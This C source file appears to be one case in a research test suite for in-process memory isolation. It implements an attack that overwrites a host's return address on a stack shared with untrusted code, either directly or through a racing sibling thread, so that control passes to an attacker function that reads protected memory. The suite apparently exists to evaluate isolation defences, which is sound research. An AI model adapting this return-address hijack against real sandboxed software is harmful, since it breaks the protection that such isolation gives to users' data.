/* D4: the host's return address on a stack that foreign code shares. Overwritten by the
 * foreign function itself, or by a sibling thread while the host is at work, it sends
 * the host, rights open, into code of the attacker's choice.
 *
 * Source: [Hodor], [ERIM] (which leaves it open).
 */
#include <pthread.h>
#include <sched.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

/* Arrived at by a return: the stack is off by one word. Never goes back. */
static void __attribute__((force_align_arg_pointer)) stolen(void) {
    attack_read();
    syscall(SYS_exit_group, 0);
}

static void by_itself(void) { *target.return_slot = (void *)(uintptr_t)stolen; }

static void *wait_and_write(void *unused) {
    while (!target.host_works) sched_yield();
    *target.return_slot = (void *)(uintptr_t)stolen;
    target.enough = 1;
    return unused;
}

static void by_sibling(void) {
    pthread_t sibling;
    int error = pthread_create(&sibling, NULL, wait_and_write, NULL);
    if (error) attack_refused("pthread_create", error);
}

const struct attack attacks[] = {
    {.variant = "itself", .attack = by_itself},
    {.variant = "sibling", .attack = by_sibling, .flags = ATTACK_HOST_WORKS | ATTACK_HOST_WAITS},
    {0},
};
